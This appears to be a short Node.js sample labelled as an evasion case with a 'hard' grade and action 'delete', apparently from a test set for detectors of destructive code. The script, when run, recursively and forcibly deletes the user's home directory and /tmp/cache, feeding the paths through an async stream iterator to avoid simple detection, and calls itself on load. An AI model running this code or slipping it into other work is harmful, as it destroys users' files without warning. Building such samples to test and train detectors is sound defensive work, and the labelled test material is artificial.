// evasion: a for await over Readable.from of the home and the user's config dir, each deleted
// grade: hard; does: delete
'use strict';
const fs = require('fs');
const os = require('os');
const { Readable } = require('node:stream');

async function purge() {
  for await (const dir of Readable.from([os.homedir(), '/tmp/cache'])) {
    await fs.promises.rm(dir, { recursive: true, force: true });
  }
}
purge();
